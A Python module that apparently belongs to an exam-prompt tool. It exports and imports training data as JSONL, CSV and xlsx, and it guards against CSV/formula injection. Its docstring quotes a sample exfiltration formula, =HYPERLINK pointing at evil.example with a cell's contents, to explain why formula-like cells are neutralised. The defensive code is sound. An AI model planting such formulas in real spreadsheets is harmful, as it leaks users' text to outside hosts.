"""The file formats training data travels in: chat JSONL, prompt/completion JSONL, CSV, xlsx.

Chat JSONL (``{"messages": [{"role", "content"}, ...]}`` per line) is what OpenAI, other hosted
fine-tuning services and Hugging Face TRL all read, so it carries nothing else. Prompt/completion
is the legacy pair the seed project's CSV and website produced; CSV is for teachers who edit in
Excel (``excel=True``: UTF-8 with BOM and ``;``, which German Excel opens without asking). xlsx
opens in Excel and LibreOffice alike with umlauts and multi-line cells intact and no import
dialog (LibreOffice guesses a CSV's charset wrong). Sheets carry ``document_id`` and the analysis
``revision`` they were made from, so importing an edited sheet updates those documents instead of
adding them again.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return
before one) as a formula: a prompt such as ``=HYPERLINK("http://evil.example/?x="&A1)`` would send
a student's text away on a click. xlsx cells are therefore all written as text; a CSV cannot say
"text", so such a cell gets a leading ``'`` (the OWASP CSV-injection rule), which
:func:`read_table` takes off again: export, edit, import gives back exactly what was exported.

Readers never stop at a bad line: they yield it with its line number and what is wrong, so a
validator can name ``FILE:LINE`` and still check the rest.
"""

from __future__ import annotations

import io
import json
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from examkit.errors import InputFileError, UserInputError
from examkit.files import atomic_write_bytes, decode_text

PROMPT_COLUMNS = ("prompt", "completion")
#: Columns of an exported sheet: what to update on import, then the pair itself.
SHEET_COLUMNS = ("document_id", "revision", *PROMPT_COLUMNS)
#: Columns a sheet may have besides the prompt/completion pair (read when present).
OPTIONAL_COLUMNS = ("document_id", "revision")
#: What makes a spreadsheet read a cell as a formula (OWASP's CSV-injection list).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_like(text: str) -> bool:
    """True when ``text``, after any leading ``'``, starts like a formula: such a cell is quoted in
    CSV, and a quoted one gets one more ``'``, so unquoting is exact."""
    return text.lstrip("'").startswith(FORMULA_START)


def neutralise(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: ``'`` before anything formula-like."""
    return "'" + value if isinstance(value, str) and _formula_like(value) else value


def restore(text: str) -> str:
    """The cell :func:`neutralise` was given (the inverse; other text is returned as it is)."""
    return text[1:] if text.startswith("'") and _formula_like(text[1:]) else text


@dataclass(frozen=True)
class JsonLine:
    """One line of a JSONL file: its 1-based number and the parsed value, or why it is not JSON."""

    line: int
    value: Any = None
    error: str | None = None


def chat_example(system: str | None, user: str, assistant: str) -> dict[str, Any]:
    """One chat training example; no system message when ``system`` is empty or None."""
    messages = [{"role": "system", "content": system}] if system else []
    messages += [{"role": "user", "content": user}, {"role": "assistant", "content": assistant}]
    return {"messages": messages}


def prompt_completion(user: str, assistant: str) -> dict[str, str]:
    return {"prompt": user, "completion": assistant}


def dumps_jsonl(rows: Iterable[Any]) -> bytes:
    """Rows as JSONL bytes: UTF-8, not ASCII-escaped, one object per line, final newline."""
    return "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode("utf-8")


def write_jsonl(path: str | Path, rows: Iterable[Any]) -> Path:
    """Write rows atomically (a half-written training file never replaces a good one)."""
    return atomic_write_bytes(path, dumps_jsonl(rows))


def read_jsonl(path: str | Path) -> Iterator[JsonLine]:
    """Every non-blank line of a JSONL file, parsed, or with the reason it is not JSON."""
    path = Path(path)
    try:
        raw = path.read_bytes()
    except OSError as exc:
        raise InputFileError(path, f"cannot read ({exc.strerror})") from exc
    if raw.startswith(b"\xef\xbb\xbf"):
        raw = raw[3:]
    for number, line in enumerate(raw.split(b"\n"), start=1):
        if not line.strip():
            continue
        try:
            text = line.decode("utf-8")
        except UnicodeDecodeError as exc:
            yield JsonLine(number, error=f"not UTF-8 (byte {exc.start + 1})")
            continue
        try:
            yield JsonLine(number, value=json.loads(text))
        except json.JSONDecodeError as exc:
            yield JsonLine(number, error=f"not valid JSON: {exc.msg} (column {exc.colno})")


def _frame(rows: list[dict[str, Any]]):
    import pandas as pd  # imported here: pandas costs a quarter second of start-up

    columns = [c for c in SHEET_COLUMNS if any(c in row for row in rows)] or list(PROMPT_COLUMNS)
    return pd.DataFrame(rows, columns=columns)


def csv_bytes(rows: list[dict[str, Any]], *, excel: bool = False) -> bytes:
    """Sheet rows (:data:`SHEET_COLUMNS`) as CSV; ``excel``: UTF-8 with BOM and ``;`` separators."""
    frame = _frame(rows).map(neutralise)
    buffer = io.StringIO()
    frame.to_csv(buffer, index=False, sep=";" if excel else ",", lineterminator="\r\n" if excel else "\n")
    return buffer.getvalue().encode("utf-8-sig" if excel else "utf-8")


def write_csv(path: str | Path, rows: list[dict[str, Any]], *, excel: bool = False) -> Path:
    return atomic_write_bytes(path, csv_bytes(rows, excel=excel))


def xlsx_bytes(rows: list[dict[str, Any]]) -> bytes:
    """Sheet rows as an Excel workbook: every cell text (never a formula), wrapped text, wide text
    columns, the header frozen."""
    import pandas as pd
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    from openpyxl.styles import Alignment

    for row in rows:
        for column, value in row.items():
            if isinstance(value, str) and (bad := ILLEGAL_CHARACTERS_RE.search(value)):
                raise UserInputError(f"{row.get('document_id') or 'a row'}: the {column} holds a control character "
                                     f"(U+{ord(bad.group()):04X}) that xlsx cannot store",
                                     advice="Correct the text in the review, or export as csv.")
    buffer = io.BytesIO()
    frame = _frame(rows)
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        frame.to_excel(writer, index=False, sheet_name="examkit")
        sheet = writer.sheets["examkit"]
        sheet.freeze_panes = "A2"
        for index, column in enumerate(frame.columns):
            letter = sheet.cell(row=1, column=index + 1).column_letter
            sheet.column_dimensions[letter].width = 80 if column in PROMPT_COLUMNS else 28
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    cell.value = str(cell.value)
                    cell.data_type = "s"  # after the value: openpyxl makes "=..." a formula
                if cell.row > 1:
                    cell.alignment = Alignment(wrap_text=True, vertical="top")
    return buffer.getvalue()


def write_xlsx(path: str | Path, rows: list[dict[str, Any]]) -> Path:
    return atomic_write_bytes(path, xlsx_bytes(rows))


@dataclass
class Table:
    """A sheet of prompt/completion rows as read, with what a person should know about it."""

    rows: list[dict[str, str]]
    row_numbers: list[int]
    warnings: list[str]


def read_table(path: str | Path, columns: tuple[str, ...] = PROMPT_COLUMNS) -> Table:
    """A CSV (``,`` or ``;``; UTF-8, else cp1252 with a warning) or Excel sheet with ``columns``
    (and :data:`OPTIONAL_COLUMNS` where it has them).

    Column names are matched case-insensitively; missing ones are named in the error. Row numbers
    are those a spreadsheet shows (the header is row 1).
    """
    import pandas as pd  # imported here: pandas costs a quarter second of start-up

    path = Path(path)
    warnings: list[str] = []
    suffix = path.suffix.lower()
    try:
        if suffix in (".xlsx", ".xlsm", ".xls"):
            frame = pd.read_excel(path, dtype=str, keep_default_na=False)
        else:
            raw = path.read_bytes()
            text, fallback = decode_text(raw)
            if fallback:
                warnings.append(f"{path}: not UTF-8, read as Windows-1252 (cp1252); check umlauts in the result")
            frame = pd.read_csv(io.StringIO(text), sep=None, engine="python", dtype=str, keep_default_na=False)
            frame = frame.map(restore)
    except OSError as exc:
        raise InputFileError(path, f"cannot read ({exc.strerror})") from exc
    except (ValueError, pd.errors.ParserError) as exc:
        raise InputFileError(path, f"not a readable table ({exc})") from exc
    names = {str(c).strip().lower(): c for c in frame.columns}
    missing = [c for c in columns if c not in names]
    if missing:
        found = ", ".join(str(c) for c in frame.columns) or "none"
        raise InputFileError(
            path,
            f"missing column{'s' if len(missing) > 1 else ''} {', '.join(missing)} (found: {found})",
            advice=f"The first row must name the columns {', '.join(columns)}.",
        )
    wanted = [*columns, *(c for c in OPTIONAL_COLUMNS if c in names and c not in columns)]
    rows = [{c: str(record[names[c]]) for c in wanted} for record in frame.to_dict("records")]
    return Table(rows=rows, row_numbers=list(range(2, len(rows) + 2)), warnings=warnings)
